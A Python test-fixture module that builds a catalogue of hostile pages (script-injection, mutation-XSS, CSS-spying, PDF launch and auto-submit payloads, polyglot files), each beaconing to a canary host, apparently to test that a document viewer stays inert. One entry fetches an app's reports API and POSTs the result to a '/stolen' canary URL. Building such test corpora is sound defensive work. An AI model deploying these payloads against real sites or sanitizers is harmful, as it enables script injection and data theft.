"""Pages of somebody who wants to know who looks, or to act in their name: made up by us, one trick each.

`{c}` is the page's own host at the canary, `{app}` the origin that the page is shown by, `{j}` a script that tells that it ran, `{name}` the page.
`plain` says what the page does in Chromium when it is served as it is: "script", "request", "leaves" (the tab or the frame goes elsewhere, or
another opens) or "perhaps" (other browsers, or an older Chromium, did something; kept, since ours must not either). `click`: once it is clicked.
"""

from __future__ import annotations

import base64
import zlib
from dataclasses import dataclass
from urllib.parse import quote

PIXEL = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"
COVER = "style='position:fixed;inset:0;display:block;font-size:40px'"


@dataclass(frozen=True)
class Hostile:
    name: str
    body: str
    plain: str = "script"
    kind: str = "text/html; charset=utf-8"
    suffix: str = "html"
    click: bool = False
    encoding: str = "utf-8"

    def data(self, canary: str, app: str) -> bytes:
        """Its bytes, for a canary (`host:port` of which every name leads there) and the origin that it is shown by."""
        host = f"http://{self.name}.{canary}"
        script = f"console.log('bw-ran {self.name}');(new Image).src='{host}/ran'"
        body = self.body.replace("{j}", script).replace("{c}", host).replace("{app}", app).replace("{name}", self.name) \
            .replace("CANARYHOST", canary.split(":")[0]).replace("CANARY", canary)
        if self.body.startswith("b64:"):
            return base64.b64decode(self.body[4:])
        if self.suffix == "pdf":
            return _pdf(body)
        if "html" in self.suffix and "<html" not in body.lower():
            body = f"<html><head><title>{self.name}</title></head><body><p>Page {self.name}: the fictional Valley Monitor said that 12 people were killed.</p>{body}</body></html>"
        return body.encode(self.encoding)


def _pdf(actions: str) -> bytes:
    """A page with a line of text, and actions on opening it."""
    stream = b"BT /F1 24 Tf 72 700 Td (A page of the made-up Valley Monitor) Tj ET"
    objects = [f"<< /Type /Catalog /Pages 2 0 R {actions} >>".encode(), b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
               b"<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream), b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"]
    out, places = b"%PDF-1.7\n", []
    for n, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (n, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    return out + b"xref\n0 6\n0000000000 65535 f \n%strailer << /Size 6 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF" % (table, len(out))


def _png(words: bytes) -> bytes:
    """A picture of one dot, with words in a text chunk."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")

    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", b"\0\0\0\x01\0\0\0\x01\x08\x02\0\0\0") + chunk(b"tEXt", b"Comment\0" + words) \
        + chunk(b"IDAT", zlib.compress(b"\0\xff\0\0")) + chunk(b"IEND", b"")


H = Hostile
SVG = "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'"

SCRIPTS = [
    H("inline", "<script>{j}</script>"),
    H("script-src", "<script src='{c}/s.js'></script>", "request"),
    H("module", "<script type=module>{j}</script>"),
    H("module-src", "<script type=module src='{c}/m.js'></script>", "request"),
    H("import-map", "<script type=importmap>{\"imports\": {\"x\": \"{c}/m.js\"}}</script><script type=module>import 'x'</script>", "request"),
    H("script-in-head", "<html><head><script>{j}</script></head><body>x</body></html>"),
    H("script-upper", "<SCRIPT\n>{j}</SCRIPT\n>"),
    H("script-no-end", "<script>{j}//", "perhaps"),
    H("img-onerror", "<img src=x onerror=\"{j}\">"),
    H("img-onload", f"<img src='{PIXEL}' onload=\"{{j}}\">"),
    H("img-slash", "<img/src='x'/onerror=\"{j}\">"),
    H("body-onload", "<html><body onload=\"{j}\">x</body></html>"),
    H("svg-onload", "<svg onload=\"{j}\"></svg>"),
    H("autofocus", "<input autofocus onfocus=\"{j}\">"),
    H("div-autofocus", "<div tabindex=1 autofocus onfocus=\"{j}\">x</div>"),
    H("details-toggle", "<details open ontoggle=\"{j}\"><summary>x</summary>y</details>"),
    H("video-error", "<video><source onerror=\"{j}\" src=x></video>"),
    H("audio-error", "<audio src=x onerror=\"{j}\"></audio>"),
    H("marquee-start", "<marquee onstart=\"{j}\">x</marquee>", "perhaps"),
    H("animation-start", "<style>@keyframes k{from{color:red}}</style><b style='animation:k 1s' onanimationstart=\"{j}\">x</b>"),
    H("style-onload", "<style onload=\"{j}\">b{}</style>"),
    H("link-onerror", "<link rel=stylesheet href='data:,x' onerror=\"{j}\" onload=\"{j}\">"),
    H("popover", "<button popovertarget=x autofocus onfocus=\"{j}\">b</button><b popover id=x onbeforetoggle=\"{j}\">x</b>"),
    H("content-visibility", "<div style='display:block;content-visibility:auto' oncontentvisibilityautostatechange=\"{j}\">x</div>"),
    H("iframe-srcdoc", "<iframe srcdoc=\"<script>parent.eval(parent.document.querySelector('b').title)</script>\"></iframe><b title=\"{j}\">x</b>"),
    H("iframe-javascript", "<b title=\"{j}\">x</b><iframe src=\"javascript:parent.eval(parent.document.querySelector('b').title)\"></iframe>"),
    H("iframe-data", "<iframe src=\"data:text/html,<script>console.log('bw-ran {name}')</script>\"></iframe>"),
    H("object-data-html", "<object data=\"data:text/html,<script>console.log('bw-ran {name}')</script>\"></object>"),
    H("embed-data-svg", "<embed src=\"data:image/svg+xml," + quote(SVG + "><script>console.log('bw-ran {name}')</script></svg>").replace("%7B", "{").replace("%7D", "}") + "\">"),
    H("shadow-root", "<div><template shadowrootmode=open><img src=x onerror=\"{j}\"></template></div>"),
    H("noscript-mutation", "<noscript><p title=\"</noscript><img src=x onerror='{q}'>\"></noscript>".replace("{q}", "console.log(/bw-ran {name}/.source)")),
    H("math-mutation", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=\"{j}\">", "perhaps"),
    H("svg-mutation", "<svg></p><style><a id=\"</style><img src=x onerror='console.log(/bw-ran {name}/.source)'>\">"),
    H("xmp-mutation", "<xmp><b title=\"</xmp><img src=x onerror='console.log(/bw-ran {name}/.source)'>\"></xmp>"),
    H("textarea-mutation", "<textarea><b title=\"</textarea><img src=x onerror='console.log(/bw-ran {name}/.source)'>\"></textarea>"),
    H("title-mutation", "<html><head><title><b title=\"</title><img src=x onerror='console.log(/bw-ran {name}/.source)'>\"></title></head><body>x</body></html>"),
    H("comment-mutation", "<!--><img src=x onerror=\"{j}\">-->"),
    H("comment-bang", "<!-- --!><img src=x onerror=\"{j}\"> -->"),
    H("select-mutation", "<select><style></select><img src=x onerror=\"{j}\"></style>", "perhaps"),
    H("table-mutation", "<table><td><svg><desc><table><tr><td><style><img title=\"</style><img src=x onerror='console.log(/bw-ran {name}/.source)'>\">"),
    H("annotation-xml", "<math><annotation-xml encoding='text/html'><img src=x onerror=\"{j}\"></annotation-xml></math>"),
    H("svg-script", "<svg><script>{j}</script></svg>"),
    H("svg-script-href", "<svg><script href='{c}/s.js'></script></svg>", "request"),
    H("foreign-object", "<svg><foreignObject><iframe srcdoc=\"<script>console.log('bw-ran {name}')</script>\"></iframe></foreignObject></svg>"),
    H("svg-animate", "<svg><a id=a><rect width=900 height=900></rect><animate attributeName=href values=\"javascript:{k}\"></animate></a></svg>".replace("{k}", "console.log('bw-ran {name}')"), "perhaps", click=True),
    H("svg-set-begin", "<svg><set attributeName=x to=1 onbegin=\"{j}\"></set></svg>"),
    H("nested-deep", "<div>" * 400 + "<img src=x onerror=\"{j}\">" + "</div>" * 400),
    H("null-bytes", "<scr\0ipt>{j}</script><img src=x one\0rror=x onerror=\"{j}\">"),
    H("meta-csp", "<html><head><meta http-equiv=content-security-policy content=\"script-src 'unsafe-inline'; sandbox allow-scripts\"></head><body><script>{j}</script></body></html>"),
    H("dialogs", "<script>{j};alert(1);confirm(2);prompt(3)</script>"),
]
REQUESTS = [
    H("img", "<img src='{c}/pixel.gif'>", "request"),
    H("img-srcset", f"<img src='{PIXEL}' srcset='{{c}}/a.png 1x, {{c}}/b.png 2x'>", "request"),
    H("picture", f"<picture><source srcset='{{c}}/a.png'><img src='{PIXEL}'></picture>", "request"),
    H("image-element", "<image src='{c}/a.png'>", "request"),
    H("input-image", "<input type=image src='{c}/a.png'>", "request"),
    H("body-background", "<html><body background='{c}/a.png'>x</body></html>", "request"),
    H("table-background", "<table background='{c}/a.png'><tr><td background='{c}/b.png'>x</td></tr></table>", "request"),
    H("video-poster", "<video poster='{c}/a.png'></video>", "request"),
    H("video-src", "<video src='{c}/a.mp4' autoplay muted></video>", "request"),
    H("audio-src", "<audio src='{c}/a.mp3' autoplay preload=auto></audio>", "request"),
    H("track", "<video src='data:video/mp4,x'><track default src='{c}/t.vtt'></video>", "perhaps"),
    H("base-href", "<html><head><base href='{c}/base/'></head><body><img src='a.png'></body></html>", "request"),
    H("protocol-relative", "<img src='//{name}.CANARY/a.png'>", "request"),
    H("iframe", "<iframe src='{c}/frame'></iframe>", "request"),
    H("frameset", "<html><frameset><frame src='{c}/frame'></frameset></html>", "request"),
    H("object", "<object data='{c}/object'></object>", "request"),
    H("embed", "<embed src='{c}/embed'>", "request"),
    H("applet", "<applet code=x archive='{c}/a.jar'></applet>", "perhaps"),
    H("portal", "<portal src='{c}/portal'></portal><fencedframe src='{c}/fenced'></fencedframe>", "perhaps"),
    H("css-import", "<style>@import '{c}/a.css';</style>", "request"),
    H("css-import-url", "<style>@import url({c}/a.css) screen;</style>", "request"),
    H("css-background", "<style>body{background:url({c}/a.png)}</style>", "request"),
    H("css-attribute", "<p style=\"background-image:url('{c}/a.png')\">x</p>", "request"),
    H("css-escaped", "<p style=\"background-image:\\75\\72\\6c('{c}/a.png')\">x</p>", "request"),
    H("css-comment", "<style>body{background:/**/url({c}/a.png)}</style>", "request"),
    H("css-font", "<style>@font-face{font-family:f;src:url({c}/f.woff2)} p{font-family:f}</style><p>abc</p>", "request"),
    H("css-list-style", "<style>li{list-style-image:url({c}/a.png)}</style><ul><li>x</ul>", "request"),
    H("css-content", "<style>p::before{content:url({c}/a.png)}</style><p>x</p>", "request"),
    H("css-border-image", "<style>p{border:9px solid;border-image:url({c}/a.png) 9}</style><p>x</p>", "request"),
    H("css-image-set", "<style>p{background:image-set('{c}/a.png' 1x)}</style><p>x</p>", "request"),
    H("css-mask", "<style>p{mask:url({c}/a.svg#m);filter:url({c}/b.svg#f);clip-path:url({c}/c.svg#c)}</style><p>x</p>", "request"),
    H("css-cross-fade", "<style>p{background:-webkit-cross-fade(url({c}/a.png),url({c}/b.png),50%)}</style><p>x</p>", "request"),
    H("css-variable", "<style>:root{--u:url({c}/a.png)} p{background:var(--u)}</style><p>x</p>", "request"),
    H("css-spy", "<style>input[value^=s]{background:url({c}/begins-with-s)}</style><input value=secret>", "request"),
    H("css-end-tag", "<style>p{content:\"</sty\"}</style><style>p{background:url({c}/a.png)}/*</style><p>x</p>", "request"),
    H("css-nested", "<style>@media all{@supports(color:red){p{&{background:url({c}/a.png)}}}}</style><p>x</p>", "request"),
    H("stylesheet", "<link rel=stylesheet href='{c}/a.css'>", "request"),
    H("stylesheet-data", "<link rel=stylesheet href=\"data:text/css,@import '{c}/a.css';\">", "request"),
    H("preload", "<link rel=preload as=image href='{c}/a.png'>", "request"),
    H("prefetch", "<link rel=prefetch href='{c}/next'>", "request"),
    H("module-preload", "<link rel=modulepreload href='{c}/m.js'>", "request"),
    H("dns-prefetch", "<html><head><meta http-equiv=x-dns-prefetch-control content=on><link rel=dns-prefetch href='//{name}.CANARY'></head><body>x</body></html>", "perhaps"),
    H("preconnect", "<link rel=preconnect href='{c}'>", "perhaps"),
    H("icon", "<html><head><link rel=icon href='{c}/icon.png'></head><body>x</body></html>", "perhaps"),
    H("manifest", "<link rel=manifest href='{c}/manifest.json'>", "perhaps"),
    H("speculation", "<script type=speculationrules>{\"prefetch\": [{\"source\": \"list\", \"urls\": [\"{c}/next\"]}]}</script>", "perhaps"),
    H("svg-image", "<svg><image href='{c}/a.png' width=9 height=9></image></svg>", "request"),
    H("svg-use", "<svg><use href='{c}/a.svg#a'></use></svg>", "perhaps"),
    H("svg-filter-image", "<svg><filter id=f><feImage href='{c}/a.png'></feImage></filter><rect width=9 height=9 filter='url(#f)'></rect></svg>", "request"),
    H("svg-style", "<svg><style>rect{fill:red;mask:url({c}/m.svg#m)}</style><rect width=9 height=9></rect></svg>", "request"),
    H("app-picture", "<img src='{app}/api/v1/reports'><img src='/api/v1/reports'>", "request"),
    H("app-frame", "<iframe src='{app}/api/v1/reports'></iframe><iframe src='/api/v1/reports'></iframe>", "request"),
]
ACTS = [
    H("meta-refresh", "<html><head><meta http-equiv=refresh content='0; url={c}/refreshed'></head><body>x</body></html>", "leaves"),
    H("meta-refresh-body", "<meta http-equiv=\"Refresh\" content=\"0;{c}/refreshed\">", "leaves"),
    H("meta-cookie", "<meta http-equiv=set-cookie content='a=b'><script>document.cookie='a=b';{j}</script>"),
    H("location", "<script>location='{c}/left'</script>", "leaves"),
    H("top-location", "<script>top.location='{c}/left'</script>", "leaves"),
    H("form-submit", "<form id=f method=post action='{c}/form'><input name=a value=b></form><script>f.submit()</script>", "leaves"),
    H("form-to-app", "<form id=f method=post action='{app}/api/v1/read' enctype=text/plain><input name=a value=b></form><script>f.submit()</script>", "request"),
    H("window-open", "<script>{j};open('{c}/opened')</script>"),
    H("opener", "<script>{j};if(opener)opener.location='{c}/opener'</script>"),
    H("post-message", "<script>{j};parent.postMessage('bw-message','*');top.postMessage('bw-message','*')</script>"),
    H("fetch-app", "<script>fetch('/api/v1/reports').then(r=>r.text()).then(t=>fetch('{c}/stolen',{method:'POST',mode:'no-cors',body:t}))</script>", "request"),
    H("xhr-post-app", "<script>x=new XMLHttpRequest;x.open('POST','{app}/api/v1/read');x.send('x');{j}</script>"),
    H("parent-read", "<script>{j};try{fetch('{c}/'+encodeURIComponent(parent.document.title))}catch(e){}</script>"),
    H("storage", "<script>localStorage.a='b';indexedDB.open('x');{j}</script>"),
    H("beacon", "<script>navigator.sendBeacon('{c}/beacon','x')</script>", "request"),
    H("fetch", "<script>fetch('{c}/fetch',{mode:'no-cors'})</script>", "request"),
    H("websocket", "<script>new WebSocket('{c}/socket'.replace('http','ws'))</script>", "request"),
    H("event-source", "<script>new EventSource('{c}/events')</script>", "request"),
    H("webrtc", "<script>{j};p=new RTCPeerConnection({iceServers:[{urls:'stun:{name}.CANARYHOST:3478'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))</script>"),
    H("worker", "<script>new Worker(URL.createObjectURL(new Blob([\"console.log('bw-ran {name}');fetch('{c}/worker',{mode:'no-cors'})\"])))</script>", "request"),
    H("shared-worker", "<script>{j};new SharedWorker('/sw.js')</script>"),
    H("service-worker", "<script>navigator.serviceWorker.register('/sw.js').then(()=>{{j}})</script>"),
    H("history", "<script>history.pushState(0,'','/reports');{j}</script>"),
    H("downloads", "<a id=a download href='data:,x'>x</a><script>for(i=0;i<9;i++)a.click();{j}</script>"),
    H("download-meta", "<html><head><meta http-equiv=refresh content='0; url={c}/attachment'></head><body>x</body></html>", "request"),
    H("endless", "<script>{j};setTimeout(()=>{for(t=Date.now();Date.now()-t<300;);},0)</script>"),
    H("print", "<script>{j};setTimeout(()=>document.execCommand('copy'),0)</script>"),
]
CLICKS = [
    H("link", f"<a href='{{c}}/link' {COVER}>x</a>", "leaves", click=True),
    H("link-blank", f"<a href='{{c}}/link' target=_blank {COVER}>x</a>", "leaves", click=True),
    H("link-top", f"<a href='{{c}}/link' target=_top {COVER}>x</a>", "leaves", click=True),
    H("link-ping", f"<a href='#' ping='{{c}}/ping' {COVER}>x</a>", "request", click=True),
    H("link-download", f"<a href='{{c}}/file' download {COVER}>x</a>", "request", click=True),
    H("link-javascript", f"<a href=\"javascript:{{j}}\" {COVER}>x</a>", click=True),
    H("link-entity", f"<a href=\"&#x6a;ava&Tab;script:{{j}}\" {COVER}>x</a>", click=True),
    H("link-app", f"<a href='{{app}}/api/v1/reports' target=_top {COVER}>x</a>", "leaves", click=True),
    H("onclick", f"<b onclick=\"{{j}}\" {COVER}>x</b>", click=True),
    H("form-button", f"<form method=post action='{{c}}/form'><button {COVER}>x</button></form>", "leaves", click=True),
    H("form-action", f"<form><button formaction='{{c}}/form' {COVER}>x</button></form>", "leaves", click=True),
    H("label-submit", f"<form action='{{c}}/form'><input type=submit id=s><label for=s {COVER}>x</label></form>", "leaves", click=True),
    H("area", f"<img src='{PIXEL}' usemap='#m' width=2000 height=2000 style='position:fixed;inset:0'><map name=m><area href='{{c}}/area' shape=default></map>", "leaves", click=True),
    H("svg-link", f"<svg {COVER} width=2000 height=2000><a href='{{c}}/svg'><rect width=2000 height=2000></rect></a></svg>", "leaves", click=True),
    H("math-link", f"<math><mtext href='{{c}}/math' {COVER}>x</mtext></math>", "perhaps", click=True),
    H("base-target", f"<html><head><base href='{{c}}/' target=_top></head><body><a href='link' {COVER}>x</a></body></html>", "leaves", click=True),
    H("summary", f"<details ontoggle=\"{{j}}\"><summary {COVER}>x</summary>y</details>", click=True),
]
FILES = [
    H("xhtml", "<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><body><p>x</p><script>{j}</script></body></html>", kind="application/xhtml+xml", suffix="xhtml"),
    H("xml-script", "<?xml version='1.0'?><r><s xmlns='http://www.w3.org/1999/xhtml'><script>{j}</script></s></r>", kind="application/xml", suffix="xml"),
    H("xml-stylesheet", "<?xml version='1.0'?><?xml-stylesheet type='text/css' href='{c}/a.css'?><r>x</r>", "request", "application/xml", "xml"),
    H("xml-xslt", "<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='{c}/a.xsl'?><r>x</r>", "perhaps", "application/xml", "xml"),
    H("xml-entity", "<?xml version='1.0'?><!DOCTYPE r [<!ENTITY x SYSTEM '{c}/entity'>]><r>&x;</r>", "perhaps", "application/xml", "xml"),
    H("svg-file", SVG + "><script>{j}</script><rect width='9' height='9'/></svg>", kind="image/svg+xml", suffix="svg"),
    H("svg-file-onload", SVG + " onload=\"{j}\"><image href='{c}/a.png'/></svg>", kind="image/svg+xml", suffix="svg"),
    H("svg-file-foreign", SVG + "><foreignObject width='9' height='9'><iframe xmlns='http://www.w3.org/1999/xhtml' src='{c}/frame'/></foreignObject></svg>", "request", "image/svg+xml", "svg"),
    H("svg-called-png", SVG + "><script>{j}</script></svg>", kind="image/svg+xml", suffix="png"),
    H("page-called-jpg", "<html><body><script>{j}</script></body></html>", suffix="jpg"),
    H("page-called-txt", "<html><body><script>{j}</script></body></html>", suffix="txt"),
    H("page-no-suffix", "<script>{j}</script><p>x</p>", suffix="unknownsuffix"),
    H("gif-polyglot", "GIF89a/*<html><script>{j}</script></html>*/=1", suffix="gif"),
    H("png-with-markup", "b64:" + base64.b64encode(_png(b"<script>console.log('bw-ran png-with-markup')</script>")).decode(), suffix="png"),
    H("utf7", "+ADw-script+AD4-{j}+ADw-/script+AD4-", "perhaps", "text/html; charset=utf-7"),
    H("utf7-meta", "<html><head><meta charset=utf-7></head><body>+ADw-script+AD4-{j}+ADw-/script+AD4-</body></html>", "perhaps", "text/html"),
    H("utf16", "\ufeff<html><body><script>{j}</script></body></html>", kind="text/html", encoding="utf-16-le"),
    H("iso-2022", "<html><head><meta charset=iso-2022-jp></head><body><a title='\x1b$B'>x<b title='\x1b(B><img src=x onerror=\"{j}\">'></body></html>", "perhaps", "text/html"),
    H("bom-in-middle", "<html><body><\ufeffscript>x</script><script>{j}</script></body></html>"),
    H("mhtml", "MIME-Version: 1.0\nContent-Type: multipart/related; boundary=B; type=\"text/html\"\n\n--B\nContent-Type: text/html\nContent-Location: {c}/page\n\n"
      "<html><body><script>{j}</script><img src='{c}/a.png'></body></html>\n--B--\n", "perhaps", "multipart/related", "mhtml"),
    H("pdf-script", "/OpenAction << /S /JavaScript /JS (app.alert\\('x'\\);app.launchURL\\('{c}/pdf'\\)) >>", "perhaps", "application/pdf", "pdf"),
    H("pdf-launch", "/OpenAction << /S /Launch /F (/bin/sh) >> /AA << /WC << /S /URI /URI ({c}/uri) >> >>", "perhaps", "application/pdf", "pdf"),
    H("pdf-submit", "/OpenAction << /S /SubmitForm /F << /FS /URL /F ({c}/submit) >> >>", "perhaps", "application/pdf", "pdf"),
    H("pdf-uri", "/OpenAction << /S /URI /URI ({c}/uri) >>", "perhaps", "application/pdf", "pdf"),
    H("json-page", "{\"a\": \"<script>{j}</script>\"}", kind="text/html", suffix="json"),
    H("name-with-markup", "<p>x</p><script>{j}</script>", suffix="html"),
]
ALL: list[Hostile] = [*SCRIPTS, *REQUESTS, *ACTS, *CLICKS, *FILES]
